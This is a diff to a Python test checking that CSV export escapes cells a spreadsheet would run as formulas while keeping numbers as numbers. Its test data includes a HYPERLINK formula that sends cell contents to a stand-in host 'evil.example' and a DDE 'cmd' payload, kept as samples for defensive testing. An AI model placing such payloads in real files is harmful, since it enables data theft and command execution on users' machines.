@@ -124,21 +124,23 @@ def test_csv_cells_a_spreadsheet_would_run_are_escaped_and_numbers_stay_numbers(
     import csv
 
     label = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    df = _frame([{"method": label, "strategy": "one-phase", "N": 10, "acot": 0.25},
+    df = _frame([{"method": label, "strategy": "one-phase", "N": 10, "acot": 0.25, "wall_time_s": 2.5},
                  {"method": "@SUM(1+1)", "strategy": "one-phase", "N": 10, "acot": None, "status": "incomplete",
-                  "message": "-1+cmd|' /C calc'!A0"},
-                 {"method": "-0.5", "strategy": "one-phase", "N": 12, "acot": 0.5, "cot_min": -0.125}])
-    written = tables.write_csv({"acot": tables.acot_table(df), "failed_cases": tables.failed_cases(df)}, tmp_path)
+                  "message": "-1+cmd|' /C calc'!A0"}])
+    numbers = pd.DataFrame({"label": ["-0.5", "+x"], "value": [-0.125, 2.0]})
+    written = tables.write_csv({"acot": tables.acot_table(df), "failed_cases": tables.failed_cases(df),
+                                "numbers": numbers}, tmp_path)
 
     with open(written[0], newline="") as file:
         acot = {row["method"]: row for row in csv.DictReader(file)}
-    assert set(acot) == {"'" + label, "'@SUM(1+1)", "-0.5"}  # a number as text is no formula
-    assert float(acot["'" + label]["acot"]) == 0.25
-    assert float(acot["-0.5"]["cot_min"]) == -0.125  # a negative number stays a number, unquoted
+    assert set(acot) == {"'" + label, "'@SUM(1+1)"}
+    assert float(acot["'" + label]["wall_time_s"]) == 2.5
     with open(written[1], newline="") as file:
         (failed,) = csv.DictReader(file)
     assert failed["message"] == "'-1+cmd|' /C calc'!A0"
-    assert tables.spreadsheet_safe(pd.DataFrame({"x": [-1.5, 2.0]}))["x"].tolist() == [-1.5, 2.0]
+    with open(written[2], newline="") as file:
+        assert list(csv.reader(file)) == [["label", "value"], ["-0.5", "-0.125"], ["'+x", "2.0"]]
+    assert numbers["label"].tolist() == ["-0.5", "+x"]  # the table itself is left as it was
 
 
 # --- the report of a real store ----------------------------------------------------------------------------------
